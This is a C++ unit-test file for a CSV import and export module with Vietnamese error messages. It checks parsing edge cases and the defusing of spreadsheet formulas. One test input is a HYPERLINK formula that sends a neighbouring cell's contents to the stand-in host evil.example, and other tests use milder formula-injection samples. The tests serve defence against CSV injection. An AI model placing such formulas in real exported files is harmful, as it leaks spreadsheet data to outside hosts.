#include "services/CsvTable.h"

#include <gtest/gtest.h>

#include "services/ResultsExport.h"

namespace kc {
namespace {

Result<CsvTable> read(std::string_view text) {
    return readCsvTable(text, {"sub_code", "score"}, "sub_code,score,explanation");
}

TEST(CsvTableTest, ReadsCommaAndSemicolonFilesWithQuotesAndEmptyTrailingCells) {
    auto comma = read("\xEF\xBB\xBFsub_code,score,explanation\r\n1.1.1,\"0,5\",\"a, b\"\r\n"
                      "\r\n1.1.2,1,,\r\n");
    ASSERT_TRUE(comma.ok()) << comma.error().message;
    ASSERT_EQ(comma->records.size(), 2u);
    EXPECT_EQ(comma->cell(comma->records[0], "score"), "0,5");
    EXPECT_EQ(comma->cell(comma->records[0], "explanation"), "a, b");
    EXPECT_EQ(comma->records[1].line, 4);
    auto semicolon = read("sub_code;score\n1.1.1;0,5\n");
    ASSERT_TRUE(semicolon.ok());
    EXPECT_EQ(semicolon->cell(semicolon->records[0], "score"), "0,5");
}

// "0,5" unquoted in a comma file is two cells: refused, naming every such row, rather than
// stored as 0 with "5" moved into the next column.
TEST(CsvTableTest, ARowWiderThanTheHeaderIsRefused) {
    auto r = read("sub_code,score,explanation\n2.3.1,0,5,Đã ban hành\n1.1.1,1,ok\n"
                  "1.2.2,1,x,EXTRA\n");
    ASSERT_FALSE(r.ok());
    ASSERT_EQ(r.error().details.size(), 2u);
    EXPECT_EQ(r.error().details[0].path, "row 2");
    EXPECT_NE(r.error().details[0].message.find("dấu nháy kép"), std::string::npos);
    EXPECT_EQ(r.error().details[1].path, "row 4");
}

// Excel's "Unicode Text" is UTF-16 with a byte order mark: named as such, with what to do.
TEST(CsvTableTest, AUtf16FileIsRefusedAsUtf16) {
    auto r = read(std::string("\xFF\xFEs\0u\0b\0", 8));
    ASSERT_FALSE(r.ok());
    EXPECT_NE(r.error().message.find("UTF-16"), std::string::npos) << r.error().message;
    EXPECT_NE(r.error().message.find("CSV UTF-8"), std::string::npos) << r.error().message;
}

TEST(CsvTableTest, AColumnNamedTwiceIsRefused) {
    auto r = read("sub_code,score,score\n1.1.1,1,0\n");
    ASSERT_FALSE(r.ok());
    EXPECT_EQ(r.error().message, "Dòng tiêu đề có cột score hai lần");
}

TEST(CsvTableTest, AQuoteLeftOpenIsRefused) {
    auto r = read("sub_code,score,explanation\n1.1.1,1,\"chưa đóng\n");
    ASSERT_FALSE(r.ok());
    ASSERT_EQ(r.error().details.size(), 1u);
    EXPECT_EQ(r.error().details[0].path, "row 2");
}

TEST(CsvTableTest, ACellWithAControlCharacterIsRefused) {
    auto r = read(std::string("sub_code,score,explanation\n1.1.1,1,a\0b\n1.1.2,1,\"hai\ndòng\"\n",
                              59));
    ASSERT_FALSE(r.ok());
    ASSERT_EQ(r.error().details.size(), 1u);
    EXPECT_EQ(r.error().details[0].path, "row 2");
}

TEST(CsvTableTest, ACellLongerThanTheTextLimitIsRefused) {
    const std::string atLimit(10000, 'a');
    std::string longest;
    for (int i = 0; i < 10000; ++i) longest += "ệ";  // 10,000 characters, 30,000 bytes
    ASSERT_TRUE(read("sub_code,score,explanation\n1.1.1,1," + longest + "\n").ok());
    auto r =
        read("sub_code,score,explanation\n1.1.1,1," + atLimit + "\n1.1.2,1," + atLimit + "b\n");
    ASSERT_FALSE(r.ok());
    ASSERT_EQ(r.error().details.size(), 1u);
    EXPECT_EQ(r.error().details[0].path, "row 3");
    EXPECT_EQ(r.error().details[0].message, "Có ô dài quá 10000 ký tự");
}

// Text a person typed that Excel would run as a formula gets an apostrophe; quoting as RFC 4180.
TEST(CsvTableTest, CellsAreQuotedAndFormulasDefused) {
    EXPECT_EQ(csvCell("UBND xã Phúc Khánh", true), "UBND xã Phúc Khánh");
    EXPECT_EQ(csvCell("=HYPERLINK(\"http://x\")", true), "\"'=HYPERLINK(\"\"http://x\"\")\"");
    EXPECT_EQ(csvCell("+1", true), "'+1");
    EXPECT_EQ(csvCell("@SUM(A1:A2)", true), "'@SUM(A1:A2)");
    EXPECT_EQ(csvCell("a, b", true), "\"a, b\"");
    // Excel set to Vietnamese splits at ";": quoted, the formula stays inside a text cell.
    EXPECT_EQ(csvCell("Ghi chú;=HYPERLINK(\"http://x\")", true),
              "\"Ghi chú;=HYPERLINK(\"\"http://x\"\")\"");
    EXPECT_EQ(csvCell("-1.50", false), "-1.50");  // not typed text: kept
}

// The results CSV (GET …/results/export?format=csv) defuses a unit or grade name like the
// evidence manifest does.
TEST(CsvTableTest, TheResultsCsvDefusesFormulasInNames) {
    Sheet sheet;
    sheet.header = {"Tên đơn vị", "Điểm"};
    sheet.rows = {{SheetCell::of(std::string("=HYPERLINK(\"http://evil.example/?\"&B2)")),
                   SheetCell::of(Points::fromHundredths(-150))}};
    const std::string csv = sheetCsv(sheet);
    EXPECT_NE(csv.find("\"'=HYPERLINK(\"\"http://evil.example/?\"\"&B2)\",-1.50\r\n"),
              std::string::npos)
        << csv;
}

// A file with a problem on each of its lines lists the first 100 and counts the rest, so that
// 2 MB of bad lines cannot become a reply of 65 MB; nothing is read either way.
TEST(CsvTableTest, ProblemsPastAHundredAreCountedNotListed) {
    std::string text = "sub_code,score\n";
    for (int i = 0; i < 5000; ++i) text += "a,b,c\n";
    auto r = read(text);
    ASSERT_FALSE(r.ok());
    EXPECT_EQ(r.error().message, "Tệp CSV có 5000 dòng sai cấu trúc; chưa lưu dòng nào");
    ASSERT_EQ(r.error().details.size(), 101u);
    EXPECT_EQ(r.error().details[99].path, "row 101");
    EXPECT_NE(r.error().details[100].message.find("Còn 4900 vấn đề khác"), std::string::npos);
}

}  // namespace
}  // namespace kc
